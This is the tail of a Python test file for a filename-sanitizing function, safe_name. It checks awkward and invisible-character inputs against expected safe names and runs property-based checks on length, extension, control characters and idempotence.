        ("Rancangan v1.2", "docx", "Rancangan v1.2.docx"),
        ("foto.JPEG", "jpeg", "foto.jpg"),
        ("foto.png", "jpeg", "foto.jpg"),
        ("surat.pdf.docx.pdf", "pdf", "surat.pdf"),
        ("  .. surat .. ", "pdf", "surat.pdf"),
        ("cafe\u0301.png", "png", "caf\u00e9.png"),
        ('a<b>"c"|d?.xlsx', "xlsx", "a_b__c__d_.xlsx"),
        ("", "pdf", "berkas.pdf"),
        (".pdf", "pdf", "berkas.pdf"),
        ("\u202e\u200b", "docx", "berkas.docx"),
        ("///", "png", "berkas.png"),
        ("x" * 300 + ".pdf", "pdf", "x" * 96 + ".pdf"),
        ("Formulir\u00a0\u2028\tKegiatan.pdf", "pdf", "Formulir Kegiatan.pdf"),
    ],
)
def test_a_name_is_safe_to_show_and_to_save(sent: str, kind: str, shown: str) -> None:
    assert safe_name(sent, kind) == shown


@settings(max_examples=500)
@given(st.text(max_size=150), st.sampled_from(ALL))
def test_whatever_the_name_the_result_is_short_visible_and_stable(sent: str, kind: str) -> None:
    shown = safe_name(sent, kind)
    assert 1 + len(FILE_TYPES[kind].extension) <= len(shown) <= 100
    assert shown.endswith(FILE_TYPES[kind].extension)
    assert not any(unicodedata.category(char) in {"Cc", "Cf", "Cs", "Zl", "Zp"} or char in "/\\" for char in shown)
    assert unicodedata.is_normalized("NFC", shown)
    assert safe_name(shown, kind) == shown
